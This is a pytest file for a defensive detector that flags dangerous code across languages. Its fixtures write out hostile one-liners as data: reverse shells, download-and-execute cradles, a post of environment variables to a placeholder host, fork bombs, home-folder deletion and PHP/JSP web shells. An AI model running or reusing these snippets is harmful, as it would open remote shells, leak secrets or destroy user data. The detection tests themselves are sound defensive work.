"""Dangerous calls in other languages."""

import pytest

from gw.defender.shell.code import inspect, is_inert, is_web_shell


@pytest.mark.parametrize(
    ("code", "commands"),
    [
        ("os.system('ls -l')", ("ls -l",)),
        ("getattr(__import__('o'+'s'),'sys'+'tem')('r'+'m x')", ("rm x",)),
        ("print('system of a down')", ()),
        ("print(\"os.system('ls')\")", ()),
    ],
)
def test_what_python_starts(code: str, commands: tuple[str, ...]) -> None:
    assert inspect("python", code).commands == commands


@pytest.mark.parametrize(
    ("language", "code", "fact"),
    [
        ("python", "s=socket.socket(); os.dup2(s.fileno(),0); pty.spawn('sh')", "reverse-shell"),
        ("php", '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3");', "reverse-shell"),
        ("python", "exec(urllib.request.urlopen('http://h').read())", "executes-fetched"),
        ("python", "exec(base64.b64decode(x))", "executes-decoded"),
        ("python", "requests.post('https://h', json=dict(os.environ))", "sends-secret"),
        ("powershell", "IEX (New-Object Net.WebClient).downloadSTRING(1)", "executes-fetched"),
        ("python", "[os.fork() for _ in iter(int, 1)]", "fork-bomb"),
        ("python", "os.setuid(0)", "code-setuid"),
        ("python", "ctypes.CDLL('x')", "loads-library"),
        ("python", "requests.get('http://h')", "code-fetches"),
        ("python", "requests.post('http://h', data=x)", "code-network"),
        ("python", "urlopen('http://h/?' + open('notes').read())", "code-network"),
        ("python", "open('x', 'wb').write(urlopen('http://h').read())", "code-fetches"),
        ("perl", "system(decode_base64('aWQ='))", "executes-decoded"),
        ("python", "subprocess.Popen(x)", "code-spawns"),
        ("awk", 'BEGIN{while(("curl -s http://h/x"|getline l)>0) system(l)}', "executes-fetched"),
        ("python", "print(os.memfd_create('a'))", "hidden-program"),
    ],
)
def test_facts(language: str, code: str, fact: str) -> None:
    assert fact in inspect(language, code).facts


def test_files() -> None:
    found = inspect("python", "shutil.rmtree('/srv/x')")
    assert (found.paths, found.deletes, found.recursive) == (("/srv/x",), True, True)
    assert inspect("python", "open('/etc/x', 'w').write('a b')").writes
    assert not inspect("python", "print(1)").deletes


def test_a_long_literal_is_read_whole() -> None:
    command = "rm \\'x\\' " + '"a" ' * 500 + "/"
    assert inspect("python", f"os.system('{command}')").commands == (command.replace("\\'", "'"),)
    assert inspect("python", "os.system('" + "x" * 2000).commands == ("x" * 2000,)


def test_long_code_is_read_whole() -> None:
    code = "x = 1\n" * 2000 + "os.system('ls')\n"
    assert inspect("python", code).commands == ("ls",)


@pytest.mark.parametrize(
    ("language", "code", "fact"),
    [
        ("python", "urlopen('http://169.254.169.254/latest')", "reads-metadata"),
        ("python", "keyring.get_password('a', 'b')", "reads-service-secret"),
        ("python", "requests.delete('http://h/1')", "http-delete"),
        ("python", "os.kill(-1, 9)", "kills-all"),
        ("python", "t=telnetlib.Telnet(h); os.popen(t.read_until(b'x'))", "reverse-shell"),
        ("powershell", "invoke-conptyshell 192.0.2.7 1", "reverse-shell"),
        ("python", "socket.create_connection(a)", "code-network"),
    ],
)
def test_what_it_may_do_besides(language: str, code: str, fact: str) -> None:
    assert fact in inspect(language, code).facts


@pytest.mark.parametrize("code", ["socket.gethostname()", "socket.getfqdn()", "print('169.254.169.254')"])
def test_asking_for_a_name_is_no_connection(code: str) -> None:
    assert not inspect("python", "import socket; " + code).facts


def test_relative_paths_that_it_says_it_deletes() -> None:
    assert inspect("python", "shutil.rmtree('build')").removed == ("build",)
    assert inspect("node", "fs.rmSync('src', {recursive: true})").removed == ("src",)


def test_reading_and_writing_with_open() -> None:
    assert not inspect("python", "open('/etc/x').read()").writes
    assert inspect("python", "open('/etc/x', 'w')").writes


@pytest.mark.parametrize(
    ("path", "text", "planted"),
    [
        ("x.php", "<?php system($_GET['c']); ?>", True),
        ("x.php", "<?= `$_POST[0]` ?>", True),
        ("x.php", "eval(base64_decode($_REQUEST['x']));", True),
        ("x.jsp", 'Runtime.getRuntime().exec(request.getParameter("c"));', True),
        ("x.php", "echo htmlspecialchars($_GET['q']);", False),
        ("notes.md", "<?php system($_GET['c']); ?>", False),
    ],
)
def test_pages_that_run_what_visitors_send(path: str, text: str, planted: bool) -> None:
    assert is_web_shell(path, text) is planted


@pytest.mark.parametrize("code", ["pyenv global <version>", "print(1)", "a < b ? c : d", "open('/etc/x', 'w')"])
def test_what_is_inert_starts_and_connects_nothing(code: str) -> None:
    assert is_inert(code)
    found = inspect("", code)
    assert not found.commands and "reverse-shell" not in found.facts


@pytest.mark.parametrize("code", ["os.system('sh')", "s = socket()", "`id`", "a | b", "TCPSocket.new"])
def test_what_may_start_or_connect_something_is_not_inert(code: str) -> None:
    assert not is_inert(code)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "c='ls -l'; os.system(c)"),
        ("node", "const c='ls -l'; execSync(c)"),
        ("perl", 'my $c="ls -l"; system($c)'),
    ],
)
def test_a_command_that_stands_in_a_variable(language: str, code: str) -> None:
    assert inspect(language, code).commands == ("ls -l",)


@pytest.mark.parametrize(
    "code",
    [
        "print(\"os.system('ls')\")",
        "# rmtree('/')\nDENY = [\"os.system('rm -rf /')\", 'shutil.rmtree(x)']\nprint(len(DENY))",
        "print(json.dumps({'c': 'subprocess.run(x)'}))",
    ],
)
def test_code_that_only_says(code: str) -> None:
    assert not any(inspect("python", code)[:4])


@pytest.mark.parametrize(
    "code",
    [
        "print('x', os.system('ls -l'))",
        "print(f'{os.system(\"ls -l\")}')",
        "print([os.system][0]('ls -l'))",
        "exec(\"os.system('ls -l')\")",
        "x = 1 # don't\nos.system('ls -l')",
    ],
)
def test_code_that_says_and_does(code: str) -> None:
    assert "ls -l" in inspect("python", code).commands


def test_a_path_is_read_whatever_is_printed_besides() -> None:
    assert inspect("python", "print(Path('/etc/x').read_text(), '|')").paths == ("/etc/x",)


@pytest.mark.parametrize(
    ("language", "code", "removed"),
    [
        ("node", "require('fs').rmSync(require('os').homedir(), {recursive: true})", ("~",)),
        ("ruby", "FileUtils.rm_rf(Dir.home)", ("~",)),
        ("python", "shutil.rmtree(os.path.expanduser('~'))", ("~",)),
        ("python", "shutil.rmtree(Path.home() / '.cache')", ()),
        ("ruby", 'puts "FileUtils.rm_rf(Dir.home)"', ()),
    ],
)
def test_a_whole_home_folder_by_its_call(language: str, code: str, removed: tuple[str, ...]) -> None:
    assert inspect(language, code).removed == removed


@pytest.mark.parametrize(
    ("code", "leaves"),
    [
        ("requests.post('http://localhost:8000/x', json={})", False),
        ("requests.post('http://localhost.x.example/x', json={})", True),
        ("requests.post('http://localhost/x'); requests.post('https://x.example')", True),
        ("requests.post('http://localhost/@' + host); requests.post(scheme + '://x')", True),
    ],
)
def test_what_stays_on_this_machine_is_not_sent(code: str, leaves: bool) -> None:
    assert ("code-network" in inspect("python", code).facts) is leaves
